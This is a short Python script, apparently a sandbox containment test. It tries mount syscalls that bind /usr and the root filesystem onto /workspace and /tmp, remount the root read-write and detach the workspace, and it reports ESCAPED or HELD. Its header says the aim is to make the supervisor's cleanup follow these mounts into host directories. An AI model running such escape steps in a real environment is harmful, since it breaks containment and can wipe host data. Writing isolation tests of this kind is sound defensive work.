# summary: plant mounts where the supervisor works: over /workspace, /tmp, /proc and the root, so
#    its cleanup would follow them
import ctypes

libc = ctypes.CDLL(None, use_errno=True)
escaped = []
for source, target, fstype, flags in (
    (b"/usr", b"/workspace", None, 0x1000),  # MS_BIND
    (b"none", b"/workspace", b"tmpfs", 0),
    (b"/", b"/tmp", None, 0x1000 | 0x4000),  # MS_BIND | MS_REC
    (b"proc", b"/tmp", b"proc", 0),
    (None, b"/", None, 0x20 | 0x1000),  # remount the root read-write
):
    if libc.mount(source, target, fstype, flags, None) == 0:
        escaped.append(f"mount {source} on {target}")
if libc.umount2(b"/workspace", 2) == 0:
    escaped.append("detached /workspace")
for line in escaped:
    print("ESCAPED", line)
print("HELD" if not escaped else "")
